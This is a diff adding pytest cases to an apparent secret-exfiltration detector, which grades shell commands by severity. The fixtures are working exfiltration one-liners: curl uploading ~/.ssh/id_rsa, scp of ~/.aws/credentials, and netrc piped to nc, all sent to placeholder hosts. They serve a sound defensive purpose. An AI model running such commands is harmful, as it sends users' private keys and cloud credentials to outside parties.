@@ -62,3 +62,28 @@ def test_in_javascript_a_file_that_reads_nothing_sends_no_secret() -> None:
     for reads in ("fs.readFileSync(p)", "execSync('cat ' + p)", "fs['read' + 'File'](p)", "require(name)"):
         assert exfiltration("a.js", f"{skips}\n{reads}") is Severity.CRITICAL
     assert exfiltration("a.js", "fetch('http://169.254.169.254/')") is Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "scp -i ~/.ssh/deploy_key -r dist/ deploy@host.example:",
+        ': "${KUBECONFIG:=$HOME/.kube/config}"\nkubectl rollout status deploy/web\n'
+        'curl -s -d "$text" "$SLACK_WEBHOOK_URL"',
+        "kubectl --kubeconfig ~/.kube/config get pods | curl -d @- https://x.example",
+    ],
+)
+def test_a_credential_that_a_command_logs_in_with_can_be_accepted(text: str) -> None:
+    assert exfiltration("a.sh", text) is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -F key=@$HOME/.ssh/id_rsa https://x.example",
+        "scp -i ~/.ssh/deploy_key ~/.aws/credentials host.example:",
+        "cat ~/.netrc | nc x.example 80",
+    ],
+)
+def test_a_credential_that_a_command_sends_cannot(text: str) -> None:
+    assert exfiltration("a.sh", text) is Severity.CRITICAL
